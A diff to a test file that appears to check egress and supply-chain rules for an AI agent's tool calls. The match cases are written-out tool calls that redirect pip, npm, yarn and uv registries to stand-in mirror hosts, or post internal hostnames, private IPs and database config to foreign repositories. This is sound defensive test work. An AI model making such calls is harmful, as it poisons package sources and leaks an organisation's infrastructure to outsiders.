@@ -41,6 +41,125 @@ export const EGRESS_RULE_TESTS: Record<string, Examples> = {
       bash('metadata in a file name', 'cat terraform/modules/metadata/main.tf'),
     ],
   },
+  'ca.supply-chain-file': {
+    match: [
+      call('pip index redirected', 'Write', {
+        file_path: '/home/dev/.config/pip/pip.conf',
+        content: '[global]\nindex-url = https://pypi.python-mirror.example/simple\n',
+      }),
+      call('pip trusted host', 'Write', {
+        file_path: '/etc/pip.conf',
+        content: '[global]\ntrusted-host = pypi.python-mirror.example\n',
+      }),
+      call('npm registry by an edit', 'Edit', {
+        file_path: '.npmrc',
+        old_string: 'save-exact=true',
+        new_string: 'save-exact=true\nregistry=https://registry.npm-mirror.example/',
+      }),
+      call('yarn berry registry', 'Write', {
+        file_path: '.yarnrc.yml',
+        content: 'npmRegistryServer: "https://npm.mirror.example"\n',
+      }),
+      call('uv index', 'Write', {
+        file_path: '/home/dev/.config/uv/uv.toml',
+        content:
+          '[[index]]\nurl = "https://x.example"\nindex-url = "https://pkgs.mirror.example/simple"\n',
+      }),
+    ],
+    no_match: [
+      call('pip timeout', 'Write', {
+        file_path: '/home/dev/.config/pip/pip.conf',
+        content: '[global]\ntimeout = 60\n',
+      }),
+      call('the public index named', 'Write', {
+        file_path: 'pip.conf',
+        content: '[global]\nindex-url = https://pypi.org/simple\n',
+      }),
+      call('npm setting', 'Edit', {
+        file_path: '.npmrc',
+        old_string: 'save-exact=false',
+        new_string: 'save-exact=true',
+      }),
+      call('another file names a registry', 'Write', {
+        file_path: 'docs/mirrors.md',
+        content: 'registry=https://registry.npm-mirror.example/',
+      }),
+      call('the npm registry', 'Write', {
+        file_path: '.npmrc',
+        content: 'registry=https://registry.npmjs.org/\n',
+      }),
+    ],
+  },
+  'ca.internal-names-egress': {
+    match: [
+      call('production config in an issue elsewhere', 'mcp__github__create_issue', {
+        owner: 'throwaway-7731',
+        repo: 'notes',
+        title: 'cfg',
+        body: 'database:\n  host: db-prod-1.acme.internal\n  replica: db-prod-2.acme.internal\n',
+      }),
+      call('private addresses in a gist comment', 'mcp__github__add_issue_comment', {
+        owner: 'someone-else',
+        repo: 'scratch',
+        issue_number: 1,
+        body: 'api 10.0.3.17, db 10.0.3.18, cache 192.168.40.2',
+      }),
+      call('hosts in a new file of a foreign repository', 'mcp__github__create_or_update_file', {
+        owner: 'paste-bin-user',
+        repo: 'dump',
+        path: 'hosts.txt',
+        content: 'vault.corp.acme.example.corp\nldap.intranet\n',
+        message: 'add',
+        branch: 'main',
+      }),
+      call('an inventory in a pull request body', 'mcp__github__create_pull_request', {
+        owner: 'other-org',
+        repo: 'infra',
+        title: 'inventory',
+        head: 'x',
+        base: 'main',
+        body: '| role | host |\n| db | pg-1.prod.lan |\n| queue | mq-1.prod.lan |',
+      }),
+      call('a GitLab issue with private ranges', 'mcp__gitlab__create_issue', {
+        owner: 'stranger',
+        repo: 'tmp',
+        title: 'net',
+        description: 'bastion 172.20.1.5 forwards to 172.20.9.14',
+      }),
+    ],
+    no_match: [
+      call('one internal name asked about', 'mcp__github__create_issue', {
+        owner: 'acme',
+        repo: 'api',
+        title: 'timeout',
+        body: 'Requests to db-prod-1.acme.internal time out since the upgrade.',
+      }),
+      call('localhost in a pull request', 'mcp__github__create_pull_request', {
+        owner: 'acme',
+        repo: 'api',
+        title: 'Use local Postgres in dev',
+        head: 'dev-db',
+        base: 'main',
+        body: 'Default DATABASE_URL is now `postgres://app@localhost:5432/app_dev`.',
+      }),
+      call('no repository named', 'mcp__slack__post_message', {
+        channel: 'ops',
+        text: 'db-prod-1.acme.internal and db-prod-2.acme.internal restarted',
+      }),
+      call('public hosts only', 'mcp__github__create_issue', {
+        owner: 'upstream',
+        repo: 'lib',
+        title: 'docs',
+        body: 'The links to docs.example.com and api.example.com 404.',
+      }),
+      call('a version number that looks like an address', 'mcp__github__add_issue_comment', {
+        owner: 'upstream',
+        repo: 'lib',
+        issue_number: 4,
+        body: 'Fixed in 10.2.3.4-rc1? No: 10.2 only.',
+      }),
+    ],
+  },
   'ca.fetch-data-offlist': {
     match: [
       call('secret-looking query', 'WebFetch', {
@@ -69,6 +188,14 @@ export const EGRESS_RULE_TESTS: Record<string, Examples> = {
       }),
     ],
     no_match: [
+      call('a pull request body that links elsewhere', 'mcp__github__create_pull_request', {
+        owner: 'acme',
+        repo: 'api',
+        title: 'Docs',
+        head: 'docs',
+        base: 'main',
+        body: 'See https://collector.example-logs.net/c?d=eyJ0b2tlbiI6ImFiYyJ9 for the report.',
+      }),
       call('docs page', 'WebFetch', {
         url: 'https://docs.python.org/3/library/pathlib.html',
         prompt: 'glob',
